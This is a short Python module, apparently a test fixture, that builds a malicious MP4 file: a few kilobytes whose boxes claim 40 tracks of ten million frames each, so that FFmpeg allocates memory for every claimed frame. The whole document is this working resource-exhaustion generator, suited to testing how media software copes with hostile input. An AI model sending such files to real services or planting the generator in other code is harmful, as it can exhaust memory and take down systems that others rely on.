"""Films and texts made to do harm. Each is small; what it asks for is not."""

import struct
from pathlib import Path


def greedy(path: Path, tracks: int = 40, frames: int = 10_000_000) -> Path:
    """An MP4 of some kilobytes that claims so many frames in so many tracks: FFmpeg takes memory for each."""
    moov = _box(b"moov", _full(b"mvhd", bytes(8) + struct.pack(">II", 1000, 1000) + bytes(76) + struct.pack(">I", 99)))
    inside = moov[8:] + b"".join(_track(number, frames) for number in range(1, tracks + 1))
    path.write_bytes(_box(b"ftyp", b"isom\0\0\0\0isom") + _box(b"moov", inside) + _box(b"mdat", bytes(64)))
    return path


def _box(kind: bytes, inside: bytes) -> bytes:
    return struct.pack(">I", 8 + len(inside)) + kind + inside


def _full(kind: bytes, inside: bytes) -> bytes:
    return _box(kind, bytes(4) + inside)


def _track(number: int, frames: int) -> bytes:
    look = bytes(24) + struct.pack(">HHII", 64, 48, 0x480000, 0x480000) + bytes(4) + struct.pack(">H", 1)
    entry = _box(
        b"jpeg", bytes(6) + struct.pack(">H", 1) + bytes(16) + look[24:] + bytes(32) + struct.pack(">Hh", 24, -1)
    )
    table = _box(
        b"stbl",
        _full(b"stsd", struct.pack(">I", 1) + entry)
        + _full(b"stts", struct.pack(">III", 1, frames, 1))
        + _full(b"stsc", struct.pack(">IIII", 1, 1, frames, 1))
        + _full(b"stsz", struct.pack(">II", 1, frames))
        + _full(b"stco", struct.pack(">II", 1, 40)),
    )
    media = _box(
        b"mdia",
        _full(b"mdhd", bytes(8) + struct.pack(">IIHH", 1000, frames, 0x55C4, 0))
        + _full(b"hdlr", bytes(4) + b"vide" + bytes(13))
        + _box(b"minf", _full(b"vmhd", bytes(8)) + table),
    )
    head = (
        bytes(8)
        + struct.pack(">III", number, 0, 1000)
        + bytes(8)
        + bytes(8)
        + bytes(36)
        + struct.pack(">II", 64 << 16, 48 << 16)
    )
    return _box(b"trak", _full(b"tkhd", head) + media)
